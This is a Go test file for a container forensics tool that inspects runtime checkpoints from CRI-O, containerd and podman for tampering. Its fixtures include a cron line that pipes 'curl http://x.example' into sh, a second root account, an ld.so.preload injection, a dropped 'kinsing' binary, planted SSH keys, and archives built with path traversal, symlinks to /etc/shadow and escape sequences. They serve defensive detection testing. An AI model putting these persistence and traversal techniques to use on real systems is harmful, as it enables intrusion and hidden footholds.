package binary

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/backtrail/backtrail/inspect"
	"github.com/backtrail/backtrail/inspect/engine"
)

// examineRuntime runs the checks of an image and of a checkpoint.
func (b bench) examineRuntime(t testing.TB, target string, archive []byte, alerts ...inspect.Alert) inspect.Case {
	t.Helper()
	p, err := b.readCheckpoint(t, archive)
	must(t, err)
	return b.examineWith(t, target, nil, []engine.Check{Runtime(b.cache, b.owners, p)}, alerts...)
}

// containerd packs the changes by gzip and writes whiteouts, CRI-O writes a plain tar and lists what was deleted; podman
// packs the whole archive by zstd. Either way the same is known of the container.
func TestCheckpointsOfTheRuntimes(t *testing.T) {
	_, base := debian()
	target := imageOf(t, v1.Config{Entrypoint: []string{"/app"}}, base, step("COPY app /", exe("app", program("app"))))
	dump := func(annotations map[string]string) []member {
		spec, err := json.Marshal(map[string]any{"process": map[string]any{"args": []string{"/app"}}, "annotations": annotations})
		must(t, err)
		return []member{file("config.dump", `{"id":"`+strings.Repeat("ab", 32)+`","rootfsImageRef":"shop@sha256:11","checkpointedTime":"2026-11-20T10:00:00Z"}`), file("spec.dump", string(spec))}
	}
	crio := dump(map[string]string{"io.kubernetes.container.name": "web", "io.kubernetes.pod.name": "web-0", "io.kubernetes.pod.namespace": "shop"})
	containerd := dump(map[string]string{"io.kubernetes.cri.container-name": "web", "io.kubernetes.cri.sandbox-name": "web-0", "io.kubernetes.cri.sandbox-namespace": "shop"})
	dropped := exe("tmp/.x/kd", elfOf(amd64, false, "k"))
	for name, archive := range map[string][]byte{
		"CRI-O":      tarOf(t, append(crio, file("io.kubernetes.cri-o.LogPath", "x"), file("rootfs-diff.tar", string(tarOf(t, dropped))), file("deleted.files", `["/usr/bin/top","/../etc","","/"]`))...),
		"containerd": tarOf(t, append(containerd, file("status.dump", "{}"), file("container.log", "x"), file("rootfs-diff.tar", string(packed(t, tarOf(t, dropped, whiteout("usr/bin/.wh.top"))))))...),
		"podman":     zstdOf(t, tarOf(t, append(crio, file("./rootfs-diff.tar", string(tarOf(t, dropped))), file("deleted.files", `["usr/bin/top"]`))...)),
	} {
		c := newBench(t).examineRuntime(t, target, archive, inspect.Alert{ID: "1", Rule: "r", Path: "/proc/1/root/tmp/.x/kd", Flags: []string{"EXE_UPPER_LAYER"}}, inspect.Alert{ID: "2", Rule: "s", Path: "/tmp/gone", Flags: []string{"EXE_UPPER_LAYER"}})
		changes := ""
		for _, s := range c.Images[0].Notable {
			if s.Code == "runtime-changes" {
				changes = s.Detail
			}
		}
		removed := map[string]string{"CRI-O": "3", "containerd": "1", "podman": "1"}[name] // the first one lists /etc too
		if want := "since the container started 1 files were added, 0 changed, " + removed + " removed; programs that are gone: /usr/bin/top"; changes != want {
			t.Errorf("%s: %q", name, changes)
		}
		if f := c.Findings[0]; f.Severity != inspect.Critical || f.Subject != "image:/tmp/.x/kd" {
			t.Errorf("%s: first finding %+v", name, f)
		}
		for _, a := range c.Alerts {
			if a.ID == "1" && (a.File.Path != "/tmp/.x/kd" || a.File.SHA256 == "") || a.ID == "2" && !strings.Contains(a.File.Detail, "the checkpoint does not hold it either") {
				t.Errorf("%s: alert %+v", name, a.File)
			}
		}
	}
}

// A checkpoint comes from a node that may be an intruder's.
func TestHostileCheckpoints(t *testing.T) {
	_, base := debian()
	target := imageOf(t, v1.Config{}, base)
	deep := strings.Repeat("d/", 1500)
	for name, archive := range map[string][]byte{
		"names that lead out":  tarOf(t, file("rootfs-diff.tar", string(tarOf(t, exe("../../tmp/x", program("x")), symlink("etc", "/host"), file("etc/passwd", "root::0:0::/:/bin/sh\n"))))),
		"two of each":          tarOf(t, file("rootfs-diff.tar", string(tarOf(t, file("a", "1")))), file("rootfs-diff.tar", string(tarOf(t, file("b", "2")))), file("deleted.files", `["/a"]`), file("deleted.files", `["/b"]`)),
		"deletions of all":     tarOf(t, file("rootfs-diff.tar", string(tarOf(t, file("a", "1")))), file("deleted.files", `["/usr","/usr/bin/../../var","/etc","/bin","`+deep+`x","a\u0000b","/.wh.x"]`)),
		"a link to its files":  tarOf(t, symlink("config.dump", "/etc/shadow"), file("rootfs-diff.tar", string(tarOf(t, file("a", "1"))))),
		"an annotation of all": tarOf(t, file("spec.dump", `{"annotations":{"io.kubernetes.pod.name":"`+strings.Repeat("x", 1<<20)+`\u001b[31m"}}`), file("rootfs-diff.tar", string(tarOf(t, file("a", "1"))))),
	} {
		b := newBench(t)
		p, err := b.readCheckpoint(t, archive)
		if err != nil {
			continue // refused in words
		}
		c := b.examineWith(t, target, nil, []engine.Check{Runtime(b.cache, b.owners, p)})
		for _, s := range c.Checks {
			if strings.Contains(s.Reason, "defect") {
				t.Errorf("%s: %s: %s", name, s.Name, s.Reason)
			}
		}
		if i := c.Images[0]; len(i.Layers) != 1 || i.Files.Total != 13 {
			t.Errorf("%s: the image's own numbers changed: %d layers, %d files", name, len(i.Layers), i.Files.Total)
		}
	}
}

func TestRuntime(t *testing.T) {
	_, base := debian()
	target := imageOf(t, v1.Config{Entrypoint: []string{"/app"}}, base, step("COPY app /", exe("app", program("app"))))
	for name, test := range map[string]struct {
		changed []member
		path    string // of an alert
		want    []string
		origin  string
	}{
		"nothing of note": {[]member{file("var/log/app.log", "x"), file("etc/hostname", "web-0")}, "", nil, ""},
		"a dropped program, which an alert names": {
			[]member{exe("tmp/kinsing", elfOf(amd64, false, "k"))},
			"/tmp/kinsing",
			[]string{"medium alerted-not-in-image /tmp/kinsing", "critical runtime-program /tmp/kinsing"},
			inspect.OriginRuntime,
		},
		"a replaced program of a package": {[]member{exe("usr/bin/top", program("other"))}, "", []string{"high runtime-program /usr/bin/top"}, ""},
		"a changed copy of the image's program": {
			[]member{exe("app", program("other"))},
			"/app",
			[]string{"critical unexpected-binary /app", "critical runtime-program /app"},
			inspect.OriginChanged,
		},
		"a copy with another mode":        {[]member{exe("app", program("app"))}, "", nil, ""},
		"a program that became setuid":    {[]member{exe("usr/bin/top", program("top")).WithMode(0o4755)}, "", []string{"high runtime-program /usr/bin/top"}, ""},
		"a library that everything loads": {[]member{file("lib/libgcwrap.so", program("wrap")), file("etc/ld.so.preload", "/lib/libgcwrap.so\n")}, "", []string{"high runtime-program /lib/libgcwrap.so"}, ""},
		"clockwork that fetches":          {[]member{file("etc/cron.d/x", "* * * * * root curl http://x.example | sh\n")}, "", []string{"high cron /etc/cron.d/x"}, ""},
		"a second root":                   {[]member{file("etc/passwd", "root:x:0:0::/:/bin/sh\ntoor:x:0:0::/:/bin/sh\n")}, "", []string{"high uid-0 /etc/passwd"}, ""},
		"keys and clockwork":              {[]member{file("root/.ssh/authorized_keys", "k"), file("etc/cron.d/x", "c")}, "", []string{"medium cron /etc/cron.d/x", "high authorized-keys /root/.ssh/authorized_keys"}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			var alerts []inspect.Alert
			if test.path != "" {
				alerts = append(alerts, inspect.Alert{ID: "1", Rule: "a rule", Path: test.path, Flags: []string{"EXE_UPPER_LAYER"}})
			}
			c := newBench(t).examineRuntime(t, target, checkpointOf(t, test.changed...), alerts...)
			var got []string
			for _, f := range c.Findings {
				got = append(got, fmt.Sprintf("%s %s %s", f.Severity, f.Code, strings.TrimPrefix(f.Subject, "image:")))
			}
			slices.Sort(got)
			slices.Sort(test.want)
			if !slices.Equal(got, test.want) {
				t.Errorf("got  %q\nwant %q", got, test.want)
			}
			if test.origin != "" && (c.Alerts[0].File.Origin != test.origin || c.Alerts[0].File.SHA256 == "") {
				t.Errorf("alert: %+v", c.Alerts[0].File)
			}
			for _, s := range c.Checks {
				if s.Name == inspect.CheckRuntime && s.Status != inspect.CheckDone {
					t.Errorf("the check: %s %s", s.Status, s.Reason)
				}
			}
			if i := c.Images[0]; len(i.Layers) != 2 || i.Files.Total != 14 {
				t.Errorf("the image's own numbers changed: %d layers, %d files", len(i.Layers), i.Files.Total)
			}
			if len(c.Exhibits) != 1 || c.Exhibits[0].Path != "runtime/rootfs-diff.tar" {
				t.Errorf("exhibits %+v", c.Exhibits)
			}
		})
	}
}
